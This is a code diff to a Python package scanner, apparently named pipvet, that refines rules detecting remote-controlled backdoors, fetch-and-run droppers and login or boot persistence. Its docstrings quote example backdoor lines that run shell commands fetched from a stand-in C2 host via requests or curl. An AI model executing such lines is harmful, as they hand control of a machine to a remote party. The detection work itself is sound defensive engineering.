@@ -133,8 +133,9 @@ class ExecFetched(BaseRule):
 
     def _commanded(self, file: FileContext, package: PackageContext) -> Iterator[Finding]:
         """``subprocess.run(requests.get(C2).json()["cmd"], shell=True)``: a shell command that
-        arrives over the network, the loop of a remote-controlled backdoor."""
-        facts = _python(file, "network", words=_FETCH_WORDS)
+        arrives over the network, the loop of a remote-controlled backdoor (also one that
+        ``curl`` fetched: ``getoutput(getoutput('curl http://h/msg'))``)."""
+        facts = _python(file, "network", words=(*_FETCH_WORDS, "curl", "wget"))
         if facts is None:
             return
         for call in facts.calls:
@@ -314,7 +315,7 @@ class DropAndRun(BaseRule):
             else:
                 group = calls
             fetch = next(
-                (c for c in group if (c.name in _FETCHERS or _fetch_like(c)) and not _loopback(facts, c)),
+                (c for c in group if (c.name in _FETCHERS or _fetch_like(c)) and not loopback(facts, c)),
                 None,
             )
             helped = None if fetch is not None or scope is None else _download_helper_call(facts, group)
@@ -355,7 +356,9 @@ class DropAndRun(BaseRule):
                 (
                     r
                     for r in runs
-                    if _linked(_operands(r, positional=True), written) and not _hands_to_data_tool(r)
+                    if _linked(_operands(r, positional=True), written)
+                    and not _hands_to_data_tool(r)
+                    and not _hands_config(facts, r, writes)
                 ),
                 None,
             )
@@ -373,6 +376,7 @@ class DropAndRun(BaseRule):
                 linked
                 and stage is Stage.RUNTIME
                 and (_fixed_https(facts, fetch) or (helped is not None and not _plain_address(facts, fetch)))
+                and not _persists(file)
             ):
                 # A function that fetches a tool from one fixed https address by name is how
                 # developer tools get helpers (a profiler's flame-graph script); loaders reach
@@ -387,6 +391,15 @@ class DropAndRun(BaseRule):
                 message=f"Downloads a file ({fetch.name}, line {fetch.line}), writes it to disk and runs it "
                 f"({run.name}): the classic dropper pattern.",
             )
+
+
+def _persists(file: FileContext) -> bool:
+    """The file also writes itself into a place that runs code at every login or boot (a Run
+    key, a crontab ``@reboot`` line, a LaunchAgent): a tool's helper is fetched when needed, a
+    stage that must survive a reboot is planted (SilentSync's ``gen_token``)."""
+    from pipvet.analysis.rules.persistence import places
+
+    return any(strong for _, strong, _ in places(file))
 
 
 _LOOPBACK = LazyPattern(r"(?:[a-z]+://)?(?:127(?:\.\d{1,3}){3}|localhost|\[?::1\]?)(?:[:/]|$)", re.I)
@@ -419,7 +432,7 @@ def _plain_address(facts: Facts, fetch: CallFact) -> bool:
     )
 
 
-def _loopback(facts: Facts, fetch: CallFact) -> bool:
+def loopback(facts: Facts, fetch: CallFact) -> bool:
     """The fetch talks to this machine only: every address in its URL or in the connection it
     is made on is a loopback one (SCons polls its own build daemon on 127.0.0.1)."""
     exprs: list[ast.expr] = list(fetch.node.args[:1])
@@ -514,6 +527,27 @@ _PROGRAM_SUFFIXES = (".exe", ".bat", ".cmd", ".scr", ".dll", ".ps1", ".vbs", ".s
 """Names of files a dropper saves to run. Not ``.js``: web applications save and copy their
 JavaScript assets all the time (open-webui copies its ``loader.js`` at import); a script saved
 for Windows Script Host is still reported when it is run."""
+
+
+_DATA_SUFFIXES = (
+    *(".conf", ".cfg", ".ini", ".json", ".yaml", ".yml", ".toml", ".xml", ".txt", ".csv", ".key", ".pem"),
+)
+
+
+def _hands_config(facts: Facts, run: CallFact, writes: list[CallFact]) -> bool:
+    """Every file ``run`` is handed that the function wrote is named like configuration or data
+    (``wg0.conf`` for ``wg-quick``): the program reads it, nothing in it runs."""
+    used = _operands(run, positional=True)
+    linked = [w for w in writes if _linked(used, _target(w))]
+    if not linked:
+        return False
+    for write in linked:
+        node = write.node
+        paths = node.args[1:2] if write.name.endswith("urlretrieve") else node.args[:1]
+        names = [s.lower() for p in paths for s in trace(facts, p, write.function).strings]
+        if not names or not names[-1].endswith(_DATA_SUFFIXES):
+            return False
+    return True
 
 
 def _writes_program(facts: Facts, call: CallFact) -> bool:
